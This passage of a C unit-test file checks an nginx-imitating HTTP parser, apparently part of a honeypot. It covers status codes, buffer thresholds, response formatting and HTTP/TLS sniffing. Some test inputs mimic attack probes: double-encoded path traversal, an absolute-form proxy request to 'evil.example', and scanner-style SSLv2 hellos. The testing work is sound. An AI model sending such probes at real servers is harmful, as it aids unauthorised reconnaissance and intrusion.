        if (g.n != 1 || g.nginx_status[0] != 400)
            fail_msg("%s: n %d nginx_status %d", bad[i], g.n, g.nginx_status[0]);
    }
    static const char *const good[] = {
        "GET / HTTP/1.1\r\nHost: x.\r\n\r\n", "GET / HTTP/1.1\r\nHost: [::1]:80\r\n\r\n",
        "GET http://x HTTP/1.1\r\nHost: h\r\n\r\n", "GET http://x:8080?a HTTP/1.1\r\nHost: h\r\n\r\n",
        "GET http://[::1]/ HTTP/1.1\r\nHost: h\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\\y\r\n\r\n",
    };
    for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
        feed_str(good[i], &g);
        if (g.n != 1 || g.nginx_status[0] != 0)
            fail_msg("%s: n %d nginx_status %d", good[i], g.n, g.nginx_status[0]);
    }
    /* more than 1000 header lines, whatever their size */
    size_t cap = 64 + 1001 * 8, o;
    char *s = malloc(cap);
    for (int k = 1000; k <= 1001; k++) {
        o = (size_t)snprintf(s, cap, "GET / HTTP/1.1\r\n");
        for (int i = 1; i < k; i++)
            o += (size_t)snprintf(s + o, cap - o, "A: 1\r\n");
        snprintf(s + o, cap - o, "Host: h\r\n\r\n");
        feed_str(s, &g);
        assert_int_equal(g.nginx_status[0], k == 1000 ? 0 : HP_HTTP_HEADER_TOO_LARGE);
    }
    free(s);
}

/* The shape of nginx's answer: without a head (HTTP/0.9), without a page (HEAD). */
static void test_nginx_answer_form(void **state)
{
    static const struct { const char *line; bool headless; } c[] = {
        { "GET /x\r\n", true }, { "GET http://x/a\r\n", true },
        { "GET http://:80/\r\n", true },                  /* the host is refused after the line */
        { "get /\r\n", false }, { "GET *\r\n", false }, { "GET http://x\r\n", false },
        { "GET / HTTP/1.0\r\n\r\n", false },
    };
    struct hp_http_parser *p = hp_http_parser_new(4096);
    struct hp_http_req *req = malloc(sizeof(*req));
    for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
        int status;
        size_t used;
        assert_int_equal(hp_http_parse(p, (const uint8_t *)c[i].line, strlen(c[i].line), req, &status, &used),
                         HP_HTTP_DONE);
        if (hp_http_ngx_headless(req) != c[i].headless)
            fail_msg("%s: headless %d", c[i].line, !c[i].headless);
    }
    free(req);
    hp_http_parser_free(p);
    /* refused by the parser (0.9 but GET): headless where nginx read the line whole */
    static const struct { const char *raw; bool headless; } r[] = {
        { "POST /\r\n", true }, { "\r\nHEAD /x \r\nmore", true }, { "PUT http://x/\n", true },
        { "get /\r\n", false }, { "POST *\r\n", false }, { "POST /a\x01\r\n", false },
        { "POST / HTTP/1.1\r\n", false }, { "POST /", false }, { "POST /\r\r\n", false },
    };
    for (size_t i = 0; i < sizeof(r) / sizeof(r[0]); i++)
        if (hp_http_ngx_headless_line((const uint8_t *)r[i].raw, strlen(r[i].raw)) != r[i].headless)
            fail_msg("%s: headless %d", r[i].raw, !r[i].headless);
    assert_true(hp_http_ngx_head_only((const uint8_t *)"\r\nHEAD / HTTP/2.0\r\n", 20));
    assert_false(hp_http_ngx_head_only((const uint8_t *)"HEADX / HTTP/2.0\r\n", 18));
    static const char *const refused[] = { "xyz", "x", "GET *", "GET  ?a", "G\x01", "GET\t/" };
    for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
        assert_true(hp_http_ngx_refuses_start((const uint8_t *)refused[i], strlen(refused[i])));
    static const char *const waiting[] = { "GET", "GET /", "GET ", "\r\nPOS", "GET http:", "" };
    for (size_t i = 0; i < sizeof(waiting) / sizeof(waiting[0]); i++)
        assert_false(hp_http_ngx_refuses_start((const uint8_t *)waiting[i], strlen(waiting[i])));
}

/* nginx_status for a head of the given line lengths (each with its CRLF):
 * a request line of reqline bytes, then headers of the given lengths. */
static int ngx_status_of(size_t reqline, const size_t *hdr, size_t nhdr)
{
    size_t cap = reqline + 64;
    for (size_t i = 0; i < nhdr; i++)
        cap += hdr[i];
    char *s = malloc(cap), *o = s;
    o += sprintf(o, "GET /");
    memset(o, 'a', reqline - 16);
    o += reqline - 16;
    o += sprintf(o, " HTTP/1.0\r\n");          /* 1.0: no Host needed */
    for (size_t i = 0; i < nhdr; i++) {
        o += sprintf(o, "X-%zu: ", i % 10);
        size_t v = hdr[i] - 7;
        memset(o, 'b', v);
        o += v;
        o += sprintf(o, "\r\n");
    }
    o += sprintf(o, "\r\n");
    struct got *g = malloc(sizeof(*g));
    feed(s, (size_t)(o - s), 0, 100, g);
    int st = g->n == 1 ? g->nginx_status[0] : -g->error;
    free(g);
    free(s);
    return st;
}

/* The thresholds measured against Debian 12's nginx 1.22 (default buffers). */
static void test_nginx_buffers(void **state)
{
    (void)state;
    size_t host[1] = { 9 };
    assert_int_equal(ngx_status_of(8192, host, 1), 0);
    assert_int_equal(ngx_status_of(8193, host, 1), 414);
    size_t big[2] = { 9, 8192 };
    assert_int_equal(ngx_status_of(30, big, 2), 0);
    big[1] = 8193;
    assert_int_equal(ngx_status_of(30, big, 2), HP_HTTP_HEADER_TOO_LARGE);
    /* four lines of 8007 bytes take four 8 KiB buffers; a fifth finds none */
    size_t four[5] = { 9, 8007, 8007, 8007, 8007 }, five[6] = { 9, 8007, 8007, 8007, 8007, 8007 };
    assert_int_equal(ngx_status_of(16, four, 5), 0);
    assert_int_equal(ngx_status_of(16, five, 6), HP_HTTP_HEADER_TOO_LARGE);
    /* small lines pack: 30 KiB of 100-byte headers fit */
    size_t many[301];
    many[0] = 9;
    for (size_t i = 1; i < 301; i++)
        many[i] = 100;
    assert_int_equal(ngx_status_of(16, many, 301), 0);
    /* a long request line wins over a missing Host */
    struct got g;
    char *line = malloc(9100);
    memcpy(line, "GET /", 5);
    memset(line + 5, 'a', 9000);
    strcpy(line + 9005, " HTTP/1.1\r\n\r\n");
    feed_str(line, &g);
    assert_int_equal(g.nginx_status[0], 414);
    free(line);
}

/* ---- view ------------------------------------------------------------------ */

static void parse_one(struct hp_http_parser *p, const char *s, struct hp_http_req *req)
{
    int status;
    size_t used;
    assert_int_equal(hp_http_parse(p, (const uint8_t *)s, strlen(s), req, &status, &used), HP_HTTP_DONE);
}

#define assert_bytes(b, s) do { assert_int_equal((b).n, strlen(s)); assert_memory_equal((b).p, s, (b).n); } while (0)

static void test_view(void **state)
{
    struct hp_http_parser *p = hp_http_parser_new(4096);
    struct hp_http_req req;
    struct hp_http_view v;
    struct hp_buf scratch;
    hp_buf_init(&scratch, 1 << 16);

    parse_one(p, "GET /a%20b/%252e%252e/%zz/x+y?q=a+b%2Bc&r=%252e%2&s=%25zz HTTP/1.1\r\nHost: h\r\n"
                 "user-agent: UA\r\n\r\n", &req);
    hp_http_view_build(&req, 8080, true, &scratch, &v);
    assert_bytes(v.method, "GET");
    assert_bytes(v.path, "/a%20b/%252e%252e/%zz/x+y");
    assert_bytes(v.query, "q=a+b%2Bc&r=%252e%2&s=%25zz");
    assert_bytes(v.dpath, "/a b/../%zz/x+y");
    assert_bytes(v.dquery, "q=a b+c&r=.%2&s=%zz");
    assert_bytes(v.version, "HTTP/1.1");
    assert_int_equal(v.local_port, 8080);
    assert_true(v.tls);
    assert_int_equal(v.nheaders, 2);
    const struct hp_http_hdr *h = hp_http_view_header(&v, "User-Agent");
    assert_non_null(h);
    assert_bytes(h->value, "UA");
    assert_null(hp_http_view_header(&v, "Cookie"));

    /* Absolute form; no query. */
    parse_one(p, "GET http://evil.example:8080/proxy%2ftest HTTP/1.1\r\nHost: h\r\n\r\n", &req);
    hp_http_view_build(&req, 80, false, &scratch, &v);
    assert_bytes(v.path, "/proxy%2ftest");
    assert_bytes(v.dpath, "/proxy/test");
    assert_int_equal(v.query.n, 0);
    assert_int_equal(v.dquery.n, 0);

    /* Form body decoded, other bodies not. */
    parse_one(p, "POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\n"
                 "Content-Length: 27\r\n\r\nuser=admin&pwd=p%40ss+w%26d", &req);
    hp_http_view_build(&req, 80, false, &scratch, &v);
    assert_bytes(v.body, "user=admin&pwd=p%40ss+w%26d");
    assert_bytes(v.dbody, "user=admin&pwd=p@ss w&d");
    parse_one(p, "POST /x HTTP/1.1\r\nHost: h\r\nContent-Type: text/xml\r\nContent-Length: 3\r\n\r\na+b", &req);
    hp_http_view_build(&req, 80, false, &scratch, &v);
    assert_true(v.dbody.p == v.body.p);

    /* Scratch too small: decoded fields fall back to the raw ones. */
    struct hp_buf tiny;
    hp_buf_init(&tiny, 4);
    parse_one(p, "GET /%41%42%43%44%45 HTTP/1.0\r\n\r\n", &req);
    hp_http_view_build(&req, 80, false, &tiny, &v);
    assert_bytes(v.dpath, "/%41%42%43%44%45");
    hp_buf_free(&tiny);

    /* HTTP/0.9 */
    parse_one(p, "GET /%2541\r\n", &req);
    hp_http_view_build(&req, 80, false, &scratch, &v);
    assert_bytes(v.dpath, "/A");
    assert_int_equal(v.version.n, 0);

    hp_buf_free(&scratch);
    hp_http_parser_free(p);
}

/* ---- responses and sniffing ----------------------------------------------------- */

/* The Date header of an answer built now, into out. */
static void response_date(char *out, size_t outlen)
{
    struct hp_buf b;
    hp_buf_init(&b, 4096);
    hp_http_response(&b, 200, NULL, NULL, "", 0, false, false);
    const char *d = strstr(hp_buf_cstr(&b), "\r\nDate: ");
    assert_non_null(d);
    d += 8;
    size_t n = strcspn(d, "\r");
    assert_true(n < outlen);
    memcpy(out, d, n);
    out[n] = '\0';
    hp_buf_free(&b);
}

static void imf_fixdate(time_t t, char *out, size_t outlen)
{
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(out, outlen, "%a, %d %b %Y %H:%M:%S GMT", &tm);   /* C locale: the test never sets one */
}

/* The Date is the current second, also once the second it was cached in is over. */
static void test_response_date_current(void **state)
{
    (void)state;
    for (int round = 0; round < 2; round++) {
        time_t before = time(NULL);
        char got[64], want_a[64], want_b[64];
        response_date(got, sizeof(got));
        time_t after = time(NULL);
        imf_fixdate(before, want_a, sizeof(want_a));
        imf_fixdate(after, want_b, sizeof(want_b));
        if (strcmp(got, want_a) != 0 && strcmp(got, want_b) != 0)
            fail_msg("Date '%s', expected '%s'", got, want_a);
        while (time(NULL) == after)                      /* into the next second */
            nanosleep(&(struct timespec){ 0, 20 * 1000 * 1000 }, NULL);
    }
}

static void test_response(void **state)
{
    struct hp_buf b;
    hp_buf_init(&b, 1 << 16);
    hp_http_response(&b, 404, "nginx/1.22.1", "X-A: 1\r\nContent-Type: text/html\r\n", "nope", 4, true, false);
    const char *s = hp_buf_cstr(&b);
    assert_true(!strncmp(s, "HTTP/1.1 404 Not Found\r\nServer: nginx/1.22.1\r\nDate: ", 52));
    const char *ct = strstr(s, "Content-Type: text/html\r\n"), *cl = strstr(s, "Content-Length: 4\r\n");
    const char *co = strstr(s, "Connection: keep-alive\r\n"), *xa = strstr(s, "X-A: 1\r\n");
    assert_true(ct && cl && co && xa && ct < cl && cl < co && co < xa);
    assert_true(strstr(s, " GMT\r\n") != NULL);
    assert_int_equal(b.len - (size_t)(strstr(s, "\r\n\r\n") + 4 - s), 4);
    assert_string_equal(s + b.len - 4, "nope");

    hp_buf_reset(&b);
    hp_http_response(&b, 200, NULL, NULL, "body", 4, false, true);
    s = hp_buf_cstr(&b);
    assert_null(strstr(s, "Server:"));
    assert_non_null(strstr(s, "Content-Length: 4\r\nConnection: close\r\n\r\n"));
    assert_string_equal(s + b.len - 4, "\r\n\r\n");

    hp_buf_reset(&b);
    hp_http_response(&b, 304, NULL, NULL, "body", 4, true, false);
    s = hp_buf_cstr(&b);
    assert_null(strstr(s, "Content-Length"));
    assert_string_equal(s + b.len - 4, "\r\n\r\n");

    /* nginx's order whatever the rule's: Content-Type, Content-Length,
     * Last-Modified and Location, Connection, the rest in the rule's order;
     * a last line without its newline gets one; and the same past the 64
     * lines read at once (a Content-Type at line 70) */
    hp_buf_reset(&b);
    hp_http_response(&b, 302, NULL, "X-1: a\r\nLocation: /x\r\ncontent-type: text/plain\r\nX-2: b\r\n"
                     "last-modified: Mon\r\nCache-Control: no", "", 0, true, false);
    s = hp_buf_cstr(&b);
    const char *after_date = strstr(s, " GMT\r\n") + 6;
    assert_string_equal(after_date, "content-type: text/plain\r\nContent-Length: 0\r\nLocation: /x\r\n"
                                    "last-modified: Mon\r\nConnection: keep-alive\r\nX-1: a\r\nX-2: b\r\n"
                                    "Cache-Control: no\r\n\r\n");
    char many[4096] = "", want[4096] = "content-type: late\r\nContent-Length: 0\r\nLocation: /y\r\n"
                                              "Connection: close\r\n";
    for (int i = 0; i < 69; i++) {
        char line[32];
        snprintf(line, sizeof(line), "X-%d: v\r\n", i);
        strcat(many, line);
        strcat(want, line);
        if (i == 66)
            strcat(many, "Location: /y\r\n");
    }
    strcat(many, "content-type: late\r\n");
    strcat(want, "\r\n");
    hp_buf_reset(&b);
    hp_http_response(&b, 200, NULL, many, "", 0, false, false);
    s = hp_buf_cstr(&b);
    assert_string_equal(strstr(s, " GMT\r\n") + 6, want);
    hp_buf_free(&b);

    assert_string_equal(hp_http_reason(405), "Not Allowed");
    assert_string_equal(hp_http_reason(302), "Moved Temporarily");
    assert_string_equal(hp_http_reason(999), "");

    char page[512];
    size_t n = hp_http_error_page(400, "nginx/1.22.1", page, sizeof(page));
    assert_string_equal(page, "<html>\r\n<head><title>400 Bad Request</title></head>\r\n<body>\r\n"
                              "<center><h1>400 Bad Request</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n"
                              "</body>\r\n</html>\r\n");
    assert_int_equal(n, strlen(page));
    n = hp_http_error_page(404, NULL, page, sizeof(page));
    assert_null(strstr(page, "<hr>"));
    assert_int_equal(n, strlen(page));
    n = hp_http_error_page(404, NULL, page, 10);
    assert_int_equal(n, 9);
    assert_int_equal(strlen(page), 9);
}

static void test_sniff(void **state)
{
    assert_true(hp_http_sniff((const uint8_t *)"GET / HTTP/1.1", 14));
    assert_true(hp_http_sniff((const uint8_t *)"GET ", 4));
    assert_true(hp_http_sniff((const uint8_t *)"PROPFIND / HTTP/1.1", 19));
    assert_true(hp_http_sniff((const uint8_t *)"PROPFIND", 8));
    assert_true(hp_http_sniff((const uint8_t *)"PRI * HTTP/2.0", 14));
    assert_true(hp_http_sniff((const uint8_t *)"OPTIONS ", 8));
    assert_false(hp_http_sniff((const uint8_t *)"GET", 3));
    assert_false(hp_http_sniff((const uint8_t *)"GETX /", 6));
    /* GENA (UPnP eventing) is HTTP; SIP's methods of the same names are not */
    assert_true(hp_http_sniff((const uint8_t *)"SUBSCRIBE /gena.cgi?service=x HTTP/1.1\r\n", 40));
    assert_true(hp_http_sniff((const uint8_t *)"NOTIFY /evt HTTP/1.1\r\n", 22));
    assert_true(hp_http_sniff((const uint8_t *)"SUBSCRIB", 8));
    assert_false(hp_http_sniff((const uint8_t *)"OPTIONS sip:100@198.51.100.7 SIP/2.0\r\n", 38));
    assert_false(hp_http_sniff((const uint8_t *)"SUBSCRIBE SIPS:alice@example.net SIP/2.0\r\n", 42));
    assert_false(hp_http_sniff((const uint8_t *)"NOTIFY sip:a@b SIP/2.0", 22));
    assert_true(hp_http_sniff((const uint8_t *)"OPTIONS * HTTP/1.1\r\n", 20));
    assert_true(hp_http_sniff((const uint8_t *)"OPTIONS si", 10));   /* not yet a sip: URI */
    assert_false(hp_http_sniff((const uint8_t *)"SSH-2.0-x", 9));
    assert_false(hp_http_sniff(NULL, 0));

    static const uint8_t ch[] = { 0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc };
    assert_true(hp_tls_sniff(ch, sizeof(ch)));
    assert_false(hp_tls_sniff(ch, 5));
    static const uint8_t alert[] = { 0x15, 0x03, 0x01, 0x00, 0x02, 0x02 };
    assert_false(hp_tls_sniff(alert, sizeof(alert)));
    static const uint8_t sh[] = { 0x16, 0x03, 0x03, 0x00, 0x40, 0x02 };
    assert_false(hp_tls_sniff(sh, sizeof(sh)));
    static const uint8_t v5[] = { 0x16, 0x03, 0x05, 0x00, 0x40, 0x01 };
    assert_false(hp_tls_sniff(v5, sizeof(v5)));
    /* SSLv2-format ClientHellos (sslscan, nmap's sslv2 probe, testssl):
     * TLS, as nginx takes them; other bytes with the high bit are not */
    static const uint8_t v2_tls10[] = { 0x80, 0x22, 0x01, 0x03, 0x01, 0x00, 0x09 };
    assert_true(hp_tls_sniff(v2_tls10, sizeof(v2_tls10)));
    static const uint8_t v2_ssl2[] = { 0x80, 0x1c, 0x01, 0x00, 0x02, 0x00, 0x03 };
    assert_true(hp_tls_sniff(v2_ssl2, sizeof(v2_ssl2)));
    assert_false(hp_tls_sniff(v2_tls10, 4));
    static const uint8_t v2_server[] = { 0x80, 0x22, 0x04, 0x03, 0x01 };   /* SERVER-HELLO */
    assert_false(hp_tls_sniff(v2_server, sizeof(v2_server)));
    static const uint8_t v2_short[] = { 0x80, 0x05, 0x01, 0x03, 0x01 };
    assert_false(hp_tls_sniff(v2_short, sizeof(v2_short)));
    static const uint8_t high[] = { 0xff, 0xfe, 0x47, 0x03, 0x01 };
    assert_false(hp_tls_sniff(high, sizeof(high)));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_simple_get),
        cmocka_unit_test(test_lf_only_and_leading_blank_lines),
        cmocka_unit_test(test_pipelined),
        cmocka_unit_test(test_keep_alive_rules),
        cmocka_unit_test(test_http09),
        cmocka_unit_test(test_chunked),
        cmocka_unit_test(test_chunked_errors),
        cmocka_unit_test(test_big_body),
        cmocka_unit_test(test_error_statuses),
        cmocka_unit_test(test_absurd_inputs),
        cmocka_unit_test(test_trickled_head),
        cmocka_unit_test(test_trickled_cost),
        cmocka_unit_test(test_many_headers),
        cmocka_unit_test(test_ngx_path),
        cmocka_unit_test(test_nginx_status),
        cmocka_unit_test(test_nginx_buffers),
        cmocka_unit_test(test_view),
        cmocka_unit_test(test_response),
        cmocka_unit_test(test_response_date_current),
        cmocka_unit_test(test_sniff),
        cmocka_unit_test(test_loose),
        cmocka_unit_test(test_nginx_grammar),
        cmocka_unit_test(test_nginx_answer_form),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
